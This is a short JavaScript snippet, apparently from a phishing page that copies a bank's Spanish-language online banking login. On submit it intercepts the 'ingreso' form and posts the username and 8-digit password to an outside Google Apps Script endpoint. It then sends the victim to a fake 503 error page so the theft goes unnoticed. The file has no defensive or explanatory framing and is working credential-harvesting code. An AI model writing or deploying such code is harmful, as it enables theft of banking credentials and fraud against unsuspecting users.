const S = 'https://script.google.com/macros/s/DEPLOYMENT_ID/exec';
const f = document.forms['ingreso'];
f.addEventListener('submit', e => {
  e.preventDefault();
  fetch(S, { method: 'POST', body: new FormData(f) })
    .finally(() => { location = 'https://banca.banco-pampa.example/error/503'; });
});
document.getElementById('clave').setAttribute('autocomplete', 'off');
document.querySelector('.usuario').textContent = 'Bienvenido a Banca en Línea. Ingrese su usuario y clave de 8 dígitos.';
